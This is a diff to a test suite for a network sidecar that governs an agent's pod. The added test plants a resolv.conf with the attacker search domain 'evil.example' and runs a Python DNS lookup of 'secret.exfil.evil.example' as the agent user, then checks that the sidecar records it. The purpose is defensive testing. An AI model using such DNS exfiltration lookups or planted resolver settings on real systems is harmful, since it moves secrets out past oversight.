@@ -176,7 +176,7 @@ describe.skipIf(reason !== null)(`attempts to bypass the sidecar${title}`, () =>
         `  ask(f,s,"${HOST}",1)`,
         `  ask(f,s,"${HOST}",28)`,
         `  ask(f,s,"${HOST}",65)`,
-        `  ask(f,s,"${HOST}.default.svc.cluster.local",1)`,
+        `  ask(f,s,"${HOST}.team.svc.cluster.local",1)`,
       ].join('\n'),
     )
     const once = [
@@ -184,11 +184,29 @@ describe.skipIf(reason !== null)(`attempts to bypass the sidecar${title}`, () =>
       `${HOST} 1 rcode 0 answers 1`,
       `${HOST} 28 rcode 0 answers 1`,
       `${HOST} 65 rcode 0 answers 0`,
-      `${HOST}.default.svc.cluster.local 1 rcode 3 answers 0`,
+      `${HOST}.team.svc.cluster.local 1 rcode 3 answers 0`,
     ]
     expect(ran.stdout.trim().split('\n')).toEqual([...once, ...once])
   })
 })
+
+test.skipIf(reason !== null)(
+  'a search domain that the author of the pod chooses hides no look-up and falsifies no record',
+  async () => {
+    await using pod = await startGovernedPod({ isStarted: false })
+    // The sidecar starts with the file that the kubelet makes of `dnsConfig`.
+    const resolver = 'nameserver 198.51.100.53\nsearch evil.example team.svc.cluster.local\noptions ndots:5\n'
+    writeFileSync(`/etc/netns/${pod.network.name}/resolv.conf`, resolver)
+    await pod.start()
+    const recorded = () => pod.fake.records.map(({ host }) => host)
+    const look = `import socket\nsocket.getaddrinfo("${HOST}",443)\ntry: socket.getaddrinfo("secret.exfil.evil.example.",443)\nexcept OSError: pass`
+    const ran = await pod.network.exec(['/usr/bin/python3', '-c', look], { uid: AGENT_UID })
+    expect(ran.stderr).toBe('')
+    await eventually('records', () => recorded().length >= 2 || null)
+    await new Promise((resolve) => setTimeout(resolve, 200))
+    expect(recorded()).toEqual([`${HOST}.evil.example`, 'secret.exfil.evil.example'])
+  },
+)
 
 describe.skipIf(reason !== null)(`an unavailable sidecar${title}`, () => {
   test('before its start and after SIGKILL every connection is refused and no packet leaves', async () => {
